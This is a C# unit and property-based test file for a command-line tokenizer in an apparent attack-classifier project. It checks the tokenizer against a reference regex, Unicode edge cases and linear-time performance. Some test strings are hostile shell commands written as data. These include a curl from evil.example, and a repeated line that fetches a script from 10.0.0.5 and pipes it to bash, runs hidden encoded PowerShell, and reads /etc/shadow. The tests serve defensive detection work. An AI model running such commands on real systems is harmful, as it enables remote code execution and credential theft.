using System.Diagnostics;
using System.Text.RegularExpressions;
using AttackClassifier.Text;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;

namespace AttackClassifier.Tests.Text;

public class CommandLineTokenizerTests
{
    /// <summary>The study's pattern, verbatim from the issue: the reference the scanner must reproduce.</summary>
    internal const string StudyPattern =
        @"(?:https?://[^\s]+)|(?:\b(?:\d{1,3}\.){3}\d{1,3}\b)|(?:[A-Za-z]:\\[^\s]+)|(?:/(?:[^ \t\n\r\f\v/]+/)*[^ \t\n\r\f\v]+)|(?:--?[\w-]+(?:=[^\s]+)?)|(?:\$\{?\w+\}?)|(?:0x[0-9a-fA-F]+)|(?:[A-Za-z_]\w+)|(?:\d+)";

    internal static readonly Regex Reference = new(StudyPattern, RegexOptions.CultureInvariant);

    internal static string[] ReferenceTokens(string text) => Reference.Matches(text).Select(m => m.Value).ToArray();

    private static string[] Scan(string text) =>
        CommandLineTokenizer.EnumerateTokens(text).ToArrayOfStrings(text);

    [Theory]
    [InlineData("ssh user@10.35.108.10:22", new[] { "ssh", "user", "10.35.108.10", "22" })]
    [InlineData("P@ssw0rd!", new[] { "ssw0rd" })]
    [InlineData("powershell -Command Get-Process", new[] { "powershell", "-command", "get", "-process" })]
    [InlineData("ls -la --color=auto /tmp/file[1].txt", new[] { "ls", "-la", "--color=auto", "/tmp/file[1].txt" })]
    [InlineData("curl (http://evil.example/x.sh)", new[] { "curl", "http://evil.example/x.sh)" })]
    [InlineData("\"C:\\Program Files\\x\"", new[] { "c:\\program", "files" })]
    [InlineData("a/b/c", new[] { "/b/c" })]
    [InlineData("ping 1.2.3.4.5", new[] { "ping", "1.2.3.4", "5" })]
    [InlineData("999.1.1.1", new[] { "999.1.1.1" })]
    [InlineData("0x1g 0X1F", new[] { "0x1", "0x1f" })]
    [InlineData("echo $HOME ${PATH} $x}", new[] { "echo", "$home", "${path}", "$x}" })]
    [InlineData("-- - -=", new[] { "--" })]
    [InlineData("powershell -EncodedCommand SQBFAFgA", new[] { "powershell", "-encodedcommand", "sqbfafga" })]
    [InlineData("dir C:\\Windows\\System32\\", new[] { "dir", "c:\\windows\\system32\\" })]
    [InlineData("", new string[0])]
    public void Golden_examples_follow_the_study_pattern(string command, string[] expected)
    {
        Assert.Equal(expected, CommandLineTokenizer.Tokenize(command));
        Assert.Equal(ReferenceTokens(command.ToLowerInvariant()), CommandLineTokenizer.Tokenize(command));
    }

    [Fact]
    public void Unix_path_takes_everything_up_to_ascii_whitespace_so_cmd_slash_c_keeps_its_argument()
    {
        // '/c whoami' stops at the space: the token is '/c'; shown separately from the theory above for clarity.
        Assert.Equal(new[] { "cmd", "exe", "/c", "whoami" }, CommandLineTokenizer.Tokenize("cmd.exe /c whoami"));
    }

    [Fact]
    public void Python_re_outputs_on_the_fixture_examples_are_reproduced()
    {
        // Fixtures/Text/tokens.json: Python's re.findall with the study pattern on lowercased ASCII commands.
        using var doc = Fixtures.Json("tokens.json");
        int checkedCount = 0;
        foreach (var example in doc.RootElement.EnumerateArray())
        {
            string command = example.GetProperty("command").GetString()!;
            string[] expected = example.GetProperty("tokens").EnumerateArray().Select(t => t.GetString()!).ToArray();
            Assert.Equal(expected, CommandLineTokenizer.Tokenize(command));
            checkedCount++;
        }
        Assert.True(checkedCount >= 20, $"only {checkedCount} examples in the fixture");
    }

    [Fact]
    public void Character_classes_equal_the_dotnet_regex_classes_on_every_utf16_unit()
    {
        var w = new Regex(@"^\w$", RegexOptions.CultureInvariant);
        var s = new Regex(@"^\s$", RegexOptions.CultureInvariant);
        var d = new Regex(@"^\d$", RegexOptions.CultureInvariant);
        var b = new Regex(@"\b", RegexOptions.CultureInvariant);
        for (int u = 0; u <= char.MaxValue; u++)
        {
            char c = (char)u;
            string one = c.ToString();
            Assert.True(w.IsMatch(one) == CommandLineTokenizer.IsWordChar(c), $"\\w differs at U+{u:X4}");
            Assert.True(s.IsMatch(one) == char.IsWhiteSpace(c), $"\\s differs at U+{u:X4}");
            Assert.True(d.IsMatch(one) == char.IsDigit(c), $"\\d differs at U+{u:X4}");
            Assert.True(b.IsMatch(one) == CommandLineTokenizer.IsBoundaryWordChar(c), $"\\b differs at U+{u:X4}");
        }
    }

    private static readonly string[] Fragments =
    [
        "http://", "https://", "http:/", "ftp://", "h", "http", "10.0.0.1", "1.2.3.4.5", "999.1.1.1", "1234.1.1.1", "1.2.3",
        "192.168.1", ".", "..", "c:\\", "C:\\Windows\\", "c:", "\\", "/", "//", "/etc/passwd", "/tmp/", "-", "--", "-la",
        "--color=auto", "=", "=x", "$", "${", "}", "{", "$HOME", "${PATH}", "0x", "0x1f", "0X1F", "0x1g", "a", "ab", "Ab",
        "_", "__", "x", "0", "7", "42", "123", "1234", " ", " ", "  ", "\t", "\n", "\v", "\f", "\r", "\"", "'", "|", ";",
        "&", ">", "<", "(", ")", "@", ":", "[", "]", "*", "!", "é", "İ", "\u00a0", "\u0085", "\u001c", "\u200d", "\u200c",
        "\u0301", "\u0903", "\u0663", "²", "\0", "\ud800", "\udc00", "\ud801\udc00", "⁀", "ǅ",
    ];

    /// <summary>Command-line-ish strings: 0–24 fragments (paths, flags, IPs, URLs, variables, hex, digits,
    /// punctuation, whitespace, some non-ASCII and control characters) concatenated.</summary>
    internal static Arbitrary<string> CommandLines() =>
        Gen.Elements(Fragments).ArrayOf().Select(parts => string.Concat(parts.Take(24))).ToArbitrary();

    [Property(MaxTest = 5000)]
    public Property Tokens_equal_the_reference_regex_on_the_lowercased_text() =>
        Prop.ForAll(CommandLines(), command =>
            Assert.Equal(ReferenceTokens(command.ToLowerInvariant()), CommandLineTokenizer.Tokenize(command)));

    [Property(MaxTest = 3000)]
    public Property Token_ranges_equal_the_reference_regex_matches_on_the_raw_text() =>
        Prop.ForAll(CommandLines(), command =>
        {
            var expected = Reference.Matches(command).Select(m => (m.Index, m.Length)).ToArray();
            var actual = new List<(int, int)>();
            foreach (Range r in CommandLineTokenizer.EnumerateTokens(command))
            {
                var (offset, length) = r.GetOffsetAndLength(command.Length);
                actual.Add((offset, length));
            }
            Assert.Equal(expected, actual);
        });

    [Property(MaxTest = 1000)]
    public Property Tokens_are_never_empty_and_never_contain_an_ascii_space() =>
        Prop.ForAll(CommandLines(), command =>
            Assert.All(CommandLineTokenizer.Tokenize(command), t => Assert.True(t.Length > 0 && !t.Contains(' '))));

    public static TheoryData<string, int, int> Pathological => new()
    {
        // (unit, repetitions, expected token count); counts from the pattern's semantics, checked against .NET Regex below.
        { "/", 1_000_000, 1 },         // '/' + '/'*: one Unix path
        { "-", 1_000_000, 1 },         // one flag made of hyphens
        { "1.", 500_000, 125_000 },    // "1.1.1.1" four at a time, the dots between groups skipped
        { "$", 1_000_000, 0 },         // '$' needs a word character after it
        { "\0", 1_000_000, 0 },
        { "\ud800", 1_000_000, 0 },    // lone high surrogates
        { "a ", 500_000, 0 },          // single letters are not tokens
        { "ab ", 333_334, 333_334 },
        { "${", 500_000, 0 },
        { "0x", 500_000, 2 },          // "0x0" (hex), then one word "x0x0…x"
    };

    [Theory]
    [MemberData(nameof(Pathological))]
    public void Pathological_megabyte_lines_finish_in_linear_time(string unit, int repetitions, int expectedTokens)
    {
        string line = string.Concat(Enumerable.Repeat(unit, repetitions));
        var watch = Stopwatch.StartNew();
        int count = 0;
        foreach (Range _ in CommandLineTokenizer.EnumerateTokens(line)) count++;
        watch.Stop();
        Assert.Equal(expectedTokens, count);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(5), $"took {watch.Elapsed} — a hang, not a slow machine");
    }

    [Fact]
    public void Pathological_counts_agree_with_the_reference_on_a_shorter_line()
    {
        foreach (var row in Pathological)
        {
            string unit = (string)row[0];
            string line = string.Concat(Enumerable.Repeat(unit, 2000));
            Assert.Equal(ReferenceTokens(line), Scan(line));
        }
    }

    [Fact]
    public void A_megabyte_of_realistic_commands_on_one_line_matches_the_reference()
    {
        string unit = "powershell.exe -nop -w hidden -enc SQBFAFgA; curl http://10.0.0.5:8080/a.sh | bash; cat /etc/shadow ";
        string line = string.Concat(Enumerable.Repeat(unit, 1_000_000 / unit.Length));
        Assert.Equal(ReferenceTokens(line.ToLowerInvariant()), CommandLineTokenizer.Tokenize(line));
    }
}

internal static class TokenTestExtensions
{
    internal static string[] ToArrayOfStrings(this CommandLineTokenizer.TokenEnumerator tokens, string text)
    {
        var list = new List<string>();
        foreach (Range r in tokens) list.Add(text[r]);
        return list.ToArray();
    }
}

/// <summary>Where we follow .NET rather than Python (see the CommandLineTokenizer remarks), pinned down.</summary>
public class TokenizerUnicodeDecisionTests
{
    [Fact]
    public void Unit_separators_are_not_whitespace_for_the_tokenizer_but_are_for_the_char_analyzers()
    {
        // Python's \s includes U+001C–U+001F; .NET's does not, and the tokenizer follows .NET: the URL runs on.
        Assert.Equal(new[] { "http://a\u001fb" }, CommandLineTokenizer.Tokenize("http://a\u001fb"));
        // The char analyzers follow Python (scikit-learn's own code), so U+001F splits words for char_wb.
        var v = TfidfVectorizer.Fit(["ab\u001fcd"], new TfidfOptions { Analyzer = TextAnalyzer.CharWordBoundary, NGramRange = new(4, 4) });
        Assert.Equal(new[] { " ab ", " cd " }, v.Terms);
    }

    [Fact]
    public void Superscript_digits_are_not_word_characters_in_dotnet()
    {
        // Python's \w matches '²' (so Python gives "x²"); .NET's does not.
        Assert.Equal(new[] { "ab" }, CommandLineTokenizer.Tokenize("ab²"));
        Assert.Equal(new[] { "ab\u0301c" }, CommandLineTokenizer.Tokenize("ab\u0301c"));   // combining marks (Mn) are \w in .NET
    }

    [Fact]
    public void Lowercasing_is_invariant_and_one_unit_for_one()
    {
        // Python lowercases 'İ' to "i̇" (i + U+0307, a word character), so Python yields "i̇nvoke". .NET's invariant
        // lowercase keeps one non-ASCII unit, which cannot start a word ([A-Za-z_]): the token starts after it.
        Assert.Equal(1, "İ".ToLowerInvariant().Length);
        Assert.Equal(new[] { "nvoke", "-expression" }, CommandLineTokenizer.Tokenize("İNVOKE-Expression"));
    }

    [Fact]
    public void Every_command_in_the_repository_data_matches_the_reference_regex()
    {
        // data/*.csv (when present) is copied next to the tests; every line of it, as text, must tokenize like the pattern.
        string folder = Path.Combine(AppContext.BaseDirectory, "data");
        if (!Directory.Exists(folder)) return;   // the dataset is optional in a checkout
        foreach (string file in Directory.GetFiles(folder, "*.csv"))
            foreach (string line in File.ReadLines(file))
                Assert.Equal(CommandLineTokenizerTests.ReferenceTokens(line.ToLowerInvariant()), CommandLineTokenizer.Tokenize(line));
    }
}
